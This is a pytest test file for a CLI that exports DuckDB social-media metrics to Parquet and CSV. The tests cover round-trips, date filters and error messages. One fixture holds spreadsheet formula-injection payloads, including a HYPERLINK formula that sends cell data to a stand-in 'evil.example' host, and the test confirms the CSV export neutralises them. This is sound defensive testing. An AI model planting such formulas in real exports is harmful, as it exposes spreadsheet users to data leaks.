"""`kunci export`: Parquet and CSV files of the published tables, read-only, formula-safe."""

import csv
import json
import subprocess
import sys
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import duckdb
import polars as pl
import pytest
from polars.testing import assert_frame_equal

from flows.cli import commands as cli
from flows.load import store
from flows.publish import export


@pytest.fixture
def analyst(demo_db: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    con = duckdb.connect(str(demo_db), read_only=True)
    con.execute("set TimeZone = 'UTC'")  # as the export writes timestamps
    yield con
    con.close()


def _export(
    db: Path, capsys: pytest.CaptureFixture[str], *args: str
) -> tuple[int, dict[str, object] | str]:
    code = cli.main(["export", "--db", str(db), *args])
    captured = capsys.readouterr()
    if code != 0:
        return code, captured.err
    return code, json.loads(captured.out) if "--json" in args else captured.out


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


INJECTED = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "plus": "+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "harmless": "Liburan ke Bali = bahagia",
}


@pytest.fixture
def injected_db(tmp_path: Path) -> Path:
    """A store whose post texts and campaign names are spreadsheet formulas."""
    db = tmp_path / "injected.duckdb"
    con = store.connect(db)
    store.apply_schema(con)
    for n, (key, text) in enumerate(INJECTED.items()):
        con.execute(
            "insert into core.post (platform, post_id, account_id, published_date, text, "
            "campaign, load_id) values ('instagram', ?, 'acct', ?, ?, ?, 1)",
            [f"p{n}", date(2026, 9, 1 + n), text, f"{key} {text}" if key == "plus" else text],
        )
    con.close()
    return db


def test_csv_neutralises_formula_cells(
    injected_db: Path, workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, summary = _export(injected_db, capsys, "core.post", "--format", "csv", "--json")

    assert code == 0
    assert summary == {
        "path": "post.csv",
        "table": "core.post",
        "format": "csv",
        "rows": 7,
        "date_column": "published_date",
    }
    rows = {row["post_id"]: row for row in _csv(workdir / "post.csv")}
    assert [rows[f"p{n}"]["text"] for n in range(7)] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        "'+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1+1",
        "'\r=1+1",
        "Liburan ke Bali = bahagia",
    ]
    assert rows["p1"]["campaign"] == "plus +1"  # starts with a letter: left alone
    assert rows["p2"]["campaign"] == "'-2+3"
    assert rows["p0"]["published_date"] == "2026-09-01"
    assert rows["p0"]["load_id"] == "1"  # numbers are never quoted
    assert rows["p0"]["published_at"] == rows["p0"]["is_paid"] == ""  # NULL is an empty cell


def test_parquet_keeps_the_text_as_it_is(
    injected_db: Path, workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Parquet is read by programs, not spreadsheets: the original text is the truth there.
    assert _export(injected_db, capsys, "core.post")[0] == 0
    texts = pl.read_parquet(workdir / "post.parquet").sort("post_id")["text"].to_list()
    assert texts == list(INJECTED.values())


def test_csv_negative_numbers_stay_numbers(
    demo_db: Path,
    analyst: duckdb.DuckDBPyConnection,
    workdir: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    code, _ = _export(demo_db, capsys, "awareness_daily", "--format", "csv")

    assert code == 0
    written = _csv(workdir / "awareness_daily.csv")
    expected = analyst.sql(
        "select platform, account_id, date, net_follower_growth, share_of_voice "
        "from metrics.awareness_daily order by date, platform, account_id"
    ).fetchall()
    assert len(written) == len(expected) == 621
    negatives = [r["net_follower_growth"] for r in written if r["net_follower_growth"][:1] == "-"]
    assert len(negatives) == 35 and min(int(n) for n in negatives) == -4
    assert all(n[1:].isdigit() for n in negatives)  # -3, never '-3
    for row, (platform, account, day, growth, share) in zip(written, expected, strict=True):
        assert (row["platform"], row["account_id"], row["date"]) == (platform, account, str(day))
        assert row["net_follower_growth"] == ("" if growth is None else str(growth))
        assert (float(row["share_of_voice"]) if row["share_of_voice"] else None) == share


@pytest.mark.parametrize(
    "table", ["metrics.conversion_daily", "awareness_weekly", "core.post", "insights_audience"]
)
def test_parquet_round_trip(
    table: str,
    demo_db: Path,
    analyst: duckdb.DuckDBPyConnection,
    workdir: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    name = table.rpartition(".")[2]
    qualified = table if "." in table else f"metrics.{table}"

    code, summary = _export(demo_db, capsys, table, "--json")

    assert code == 0 and isinstance(summary, dict)
    assert (summary["path"], summary["format"]) == (f"{name}.parquet", "parquet")
    back = pl.read_parquet(workdir / f"{name}.parquet")
    original = analyst.sql(f"select * from {qualified} order by all").pl()
    assert summary["rows"] == back.height == original.height > 0
    assert_frame_equal(back, original)  # same values, same types, same order
    assert all(back.schema[c] == pl.Date for c in back.columns if c.endswith(("date", "start")))


def test_parquet_types(demo_db: Path, workdir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _export(demo_db, capsys, "conversion_daily", "--out", "conv.parquet")[0] == 0
    schema = pl.read_parquet_schema(workdir / "conv.parquet")
    assert (schema["date"], schema["spend"], schema["clicks"]) == (pl.Date, pl.Float64, pl.Int64)
    post = pl.read_parquet_schema(_written(demo_db, capsys, "core.post"))
    assert post["published_at"] == pl.Datetime("us", "UTC")
    assert post["is_paid"] == pl.Boolean


def _written(db: Path, capsys: pytest.CaptureFixture[str], table: str) -> Path:
    code, summary = _export(db, capsys, table, "--json")
    assert code == 0 and isinstance(summary, dict)
    return Path(str(summary["path"]))


def test_since_until_filter_on_the_tables_date_column(
    demo_db: Path,
    analyst: duckdb.DuckDBPyConnection,
    workdir: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    window = ["--since", "2026-09-01", "--until", "2026-09-07", "--json"]
    code, daily = _export(demo_db, capsys, "awareness_daily", "--out", "d.csv", *window)
    assert code == 0 and isinstance(daily, dict)
    days = sorted({row["date"] for row in _csv(workdir / "d.csv")})
    assert days == [f"2026-09-0{n}" for n in range(1, 8)]
    one_day = "select count(*) from metrics.awareness_daily where date = '2026-09-01'"
    assert daily["rows"] == 7 * (analyst.execute(one_day).fetchone() or [0])[0] == 49
    assert daily["date_column"] == "date"

    code, weekly = _export(demo_db, capsys, "awareness_weekly", "--out", "w.parquet", *window)
    assert code == 0 and isinstance(weekly, dict)
    assert weekly["date_column"] == "week_start"
    weeks = pl.read_parquet(workdir / "w.parquet")["week_start"].unique().to_list()
    assert weeks == [date(2026, 9, 7)]  # 2026-08-31 starts before --since

    code, since = _export(demo_db, capsys, "core.mention", "--since", "2026-09-30", "--json")
    assert code == 0 and isinstance(since, dict)
    expected = analyst.execute("select count(*) from core.mention where date >= '2026-09-30'")
    assert since["rows"] == (expected.fetchone() or [0])[0] > 0


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["awarness_daily"],
            "kunci export: unknown table 'awarness_daily'; close names: "
            "metrics.awareness_daily, metrics.awareness_weekly, metrics.awareness_monthly\n",
        ),
        (["core.pots"], "kunci export: unknown table 'core.pots'; close names: core.post\n"),
        (
            ["core.account", "--since", "2026-09-01"],
            "kunci export: --since/--until: core.account has no date column\n",
        ),
        (
            ["leads_daily", "--since", "2026-09-02", "--until", "2026-09-01"],
            "kunci export: --since 2026-09-02 is after --until 2026-09-01\n",
        ),
        (
            ["leads_daily", "--out", "missing/leads.csv"],
            "kunci export: --out missing/leads.csv: folder missing does not exist\n",
        ),
    ],
)
def test_bad_requests_are_one_line(
    args: list[str],
    message: str,
    demo_db: Path,
    workdir: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert _export(demo_db, capsys, *args) == (2, message)
    assert list(workdir.iterdir()) == []


def test_unknown_name_without_close_match_lists_the_metric_tables(
    demo_db: Path, workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, err = _export(demo_db, capsys, "ops.load")
    assert code == 2 and isinstance(err, str)
    assert err.startswith("kunci export: unknown table 'ops.load'; metric tables: awareness_daily,")
    assert err.count("\n") == 1 and "traffic_weekly" in err and "core." not in err


def test_format_follows_the_out_suffix(
    demo_db: Path, workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert export.format_for(None, None) == "parquet"
    assert export.format_for(Path("x.CSV"), None) == "csv"
    assert export.format_for(Path("x.csv"), "parquet") == "parquet"
    code, out = _export(demo_db, capsys, "funnel_campaign", "--out", "funnel.csv")
    assert (code, out) == (0, "metrics.funnel_campaign: 12 rows written to funnel.csv (csv)\n")
    assert len(_csv(workdir / "funnel.csv")) == 12
    assert sorted(p.name for p in workdir.iterdir()) == ["funnel.csv"]  # no .partial left


HOLD_READ_ONLY = """
import sys, duckdb
con = duckdb.connect(sys.argv[1], read_only=True)
print(con.execute("select count(*) from metrics.scorecard").fetchone()[0], flush=True)
sys.stdin.read()
"""


def test_export_while_an_analyst_holds_the_file(
    demo_db: Path, workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = demo_db.stat().st_mtime_ns
    analyst = subprocess.Popen(
        [sys.executable, "-c", HOLD_READ_ONLY, str(demo_db)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert analyst.stdout is not None
        assert analyst.stdout.readline().strip() == "10"
        code, summary = _export(demo_db, capsys, "scorecard", "--format", "csv", "--json")
        assert analyst.poll() is None, "the analyst session must still be open"
    finally:
        analyst.communicate("", timeout=30)
    assert code == 0 and isinstance(summary, dict) and summary["rows"] == 10
    assert demo_db.stat().st_mtime_ns == before  # read-only: the file is untouched
